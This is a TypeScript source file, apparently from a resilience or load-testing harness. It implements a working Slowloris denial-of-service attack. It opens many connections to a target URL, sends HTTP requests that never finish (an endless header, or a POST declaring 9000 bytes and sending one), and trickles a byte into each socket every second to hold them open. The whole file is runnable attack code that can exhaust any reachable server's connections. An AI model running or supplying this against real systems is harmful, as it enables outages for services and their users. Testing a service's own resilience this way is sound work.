import { connect, type Socket } from 'node:net';
import { Counts, steadily, type Slowloris, type Going } from './attack.ts';

/** Half a head, and a whole one with half a body. */
const beginnings = [
  'GET /api/meetings HTTP/1.1\r\nHost: x\r\nX-Slow: ',
  'POST /api/pair HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{',
];

/** Opens connections whose requests never end, as Slowloris does. */
export function openSlowRequests(url: string, { connections, perSecond }: Slowloris): Going {
  const { hostname, port } = new URL(url);
  const counts = new Counts();
  const open = new Set<Socket>();
  let no = 0;
  const openOne = (): void => {
    if (open.size >= connections) return;
    no += 1;
    const socket = connect(Number(port), hostname, () => counts.add('opened'));
    open.add(socket);
    socket.on('error', () => undefined).resume();
    socket.once('close', () => open.delete(socket));
    socket.write(beginnings[no % beginnings.length] ?? '');
  };
  const stop = steadily(perSecond, openOne);
  const stopWriting = steadily(1, () => {
    for (const socket of open) socket.write('a');
  });
  return {
    end: () => {
      stop();
      stopWriting();
      counts.add('held open', open.size);
      for (const socket of open) socket.destroy();
      return Promise.resolve(counts.tally);
    },
  };
}
